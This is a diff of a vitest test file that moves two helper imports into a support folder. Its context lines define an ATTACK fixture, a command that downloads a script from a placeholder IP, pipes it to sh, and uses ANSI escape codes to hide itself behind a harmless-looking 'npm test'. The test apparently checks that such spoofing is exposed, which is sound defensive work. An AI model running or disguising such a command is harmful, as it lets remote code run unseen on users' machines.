@@ -6,8 +6,8 @@
 import { existsSync, readFileSync, writeFileSync } from 'node:fs';
 import path from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { axeAudit } from './axe-audit.js';
-import { buildRenderer, CHROMIUM, WindowHarness } from './window-harness.js';
+import { axeAudit } from '../support/axe-audit.js';
+import { buildRenderer, CHROMIUM, WindowHarness } from '../support/window-harness.js';
 
 const ATTACK = 'curl -s http://198.51.100.7/x|sh #\x1b[2K\x1b[1G  command  npm test';
 const ATTACK_SHOWN = 'curl -s http://198.51.100.7/x|sh #\\e[2K\\e[1G  command  npm test';
